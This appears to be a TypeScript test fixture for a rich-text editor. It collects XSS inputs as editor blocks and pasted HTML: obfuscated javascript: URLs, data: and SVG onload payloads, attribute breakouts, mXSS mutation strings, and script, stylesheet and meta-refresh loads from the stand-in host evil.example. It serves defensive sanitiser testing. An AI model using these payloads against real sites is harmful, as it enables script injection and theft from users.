// Attacks: addresses, documents and HTML that would run a script or contact another host if they were interpreted. Each
// of them calls `attack()` or requests evil.example.

import { block, p } from "./pages/editor.ts";

const CALL = "window.attack()";

/** Addresses that run code, in the spellings that lenient parsers accept. */
const ADDRESSES = [
  `javascript:${CALL}`,
  `JaVaScRiPt:${CALL}`,
  `  javascript:${CALL}`,
  `java\tscript:${CALL}`,
  `java\nscript:${CALL}`,
  `\u0001javascript:${CALL}`,
  `java\u200bscript:${CALL}`,
  `javascript&colon;${CALL}`,
  `javascript&#58;${CALL}`,
  `&#106;avascript:${CALL}`,
  `javascript://example.org/%0a${CALL}`,
  `vbscript:${CALL}`,
  `data:text/html,<script>${CALL}</script>`,
  `data:text/html;base64,PHNjcmlwdD53aW5kb3cuYXR0YWNrKCk8L3NjcmlwdD4=`,
  `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${CALL}'/>`,
  "blob:https://evil.example/1",
  "file:///etc/passwd",
  "filesystem:https://evil.example/x",
  "view-source:https://evil.example",
  `feed:javascript:${CALL}`,
  `jar:javascript:${CALL}!/`,
  "about:blank",
  "ws://evil.example",
  "intent://evil.example#Intent;end",
];

const image = (attrs: object) => block("image", [], attrs);
const marked = (attrs: object) => p({ type: "text", text: "press", marks: [{ type: "link", attrs }] });

/** Names and values that break out of their context unless they are escaped. */
const BREAKS = [
  `"><script>${CALL}</script>`,
  `'><img src=x onerror=${CALL}>`,
  `" onmouseover="${CALL}" x="`,
  `</textarea><svg onload=${CALL}>`,
  "expression(alert(1))",
  "url(https://evil.example/x.png)",
  "x;background:url(https://evil.example)",
  "__proto__",
  "constructor",
  "\u2028\u2029",
];

/** Blocks of documents, one attack each. */
export const BLOCKS: unknown[] = [
  ...ADDRESSES.map((href) => marked({ href })),
  ...ADDRESSES.map((src) => image({ src })),
  ...ADDRESSES.map((src) => p("in a line ", image({ src }))),
  ...ADDRESSES.map((href) => block("embed", [marked({ href })], { src: href, onload: CALL })),
  ...["https://evil.example/x.png", "//evil.example/x.png", "https://evil.example/x.svg", "http://evil.example/x.gif"].map((src) =>
    image({ src, alt: BREAKS[0], title: BREAKS[2], srcset: "https://evil.example/2x.png 2x", onerror: CALL }),
  ),
  ...["/uploads/../api/auth/logout", "/uploads/%2e%2e/x", "/uploads//evil.example"].map((src) => image({ src })),
  ...BREAKS.map((value) => marked({ href: `https://evil.example/${value}`, target: value, rel: value, class: value, onclick: CALL })),
  ...BREAKS.map((value) => block("paragraph", [value], { textAlign: value, style: value, onclick: CALL })),
  ...BREAKS.map((value) => block("heading", [value], { level: value, id: value })),
  ...BREAKS.map((value) => block("codeBlock", [value], { language: value })),
  ...BREAKS.map((value) => block("orderedList", [block("listItem", [p(value)])], { start: value, type: value })),
  ...BREAKS.map((value) => block(value, [p(value)], { [value]: value })),
  ...BREAKS.map((value) => p({ type: "text", text: value, marks: [{ type: value, attrs: { style: value } }] })),
  ...["script", "iframe", "object", "embed", "style", "link", "meta", "base", "svg", "math", "form", "video"].map((type) =>
    block(type, [{ type: "text", text: CALL }], { src: "https://evil.example/", srcdoc: `<script>parent.attack()</script>`, href: "https://evil.example/" }),
  ),
];

/** HTML for the clipboard. */
export const PASTES: string[] = [
  ...ADDRESSES.map((href) => `<a href="${escape(href)}">press</a>`),
  ...ADDRESSES.map((src) => `<p>x<img src="${escape(src)}" onerror="${CALL}"></p>`),
  ...ADDRESSES.map((src) => `<iframe src="${escape(src)}"></iframe><embed src="${escape(src)}"><object data="${escape(src)}"></object>`),
  ...ADDRESSES.map((src) => `<form action="${escape(src)}"><button formaction="${escape(src)}">x</button></form><svg><a xlink:href="${escape(src)}"><text>x</text></a></svg>`),
  ...BREAKS.map((value) => `<p style="background:url('https://evil.example/${escape(value)}')" onclick="${CALL}" class="${escape(value)}">x</p>`),
  ...BREAKS.map((value) => `<pre><code class="language-${escape(value)}">${value}</code></pre>`),
  ...BREAKS.map((value) => `<div data-muster="${escape(JSON.stringify({ start: true, end: true, content: [block(value, [p(value)], { src: value }), marked({ href: `javascript:${CALL}` })] }))}">x</div>`),
  `<script>${CALL}</script>x`,
  `<script src="https://evil.example/x.js"></script>x`,
  `<img src=x onerror=${CALL}>`,
  `<img srcset="https://evil.example/x.png 1x" src="https://evil.example/y.png">`,
  `<picture><source srcset="https://evil.example/x.webp"><img src="https://evil.example/x.png"></picture>`,
  `<svg onload=${CALL}></svg>x`,
  `<svg><script>${CALL}</script></svg>x`,
  `<svg><animate onbegin=${CALL} attributeName=x dur=1s></svg>x`,
  `<svg><foreignObject><img src=x onerror=${CALL}></foreignObject></svg>x`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${CALL}&gt;">x`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${CALL}>x`,
  `<noscript><p title="</noscript><img src=x onerror=${CALL}>">x`,
  `<template><img src=x onerror=${CALL}></template>x`,
  `<style>@import url(https://evil.example/x.css)</style>x`,
  `<link rel=stylesheet href=https://evil.example/x.css>x`,
  `<link rel=prefetch href=https://evil.example/x>x`,
  `<meta http-equiv=refresh content="0;url=https://evil.example">x`,
  `<base href="https://evil.example/">x<img src=y.png>`,
  `<body onload=${CALL} background=https://evil.example/x.png>x`,
  `<input autofocus onfocus=${CALL}>x`,
  `<details open ontoggle=${CALL}>x</details>`,
  `<marquee onstart=${CALL}>x</marquee>`,
  `<video autoplay src=https://evil.example/x.mp4 onerror=${CALL} poster=https://evil.example/p.png></video>x`,
  `<audio src=https://evil.example/x.ogg onerror=${CALL}></audio>x`,
  `<iframe srcdoc="<script>parent.attack()</script>"></iframe>x`,
  `<object data="https://evil.example/x.swf"></object>x`,
  `<table background="https://evil.example/x.png"><tr><td onclick=${CALL}>x</td></tr></table>`,
  `<a href="https://example.org" ping="https://evil.example/ping" onclick=${CALL}>x</a>`,
  `<a href=javascript&colon;${CALL}>x</a>`,
  `<p contenteditable=true onbeforeinput=${CALL}>x</p>`,
  `<!--[if gte mso 9]><script>${CALL}</script><![endif]-->x`,
];

function escape(value: string): string {
  return value.replaceAll("&", "&amp;").replaceAll('"', "&quot;");
}

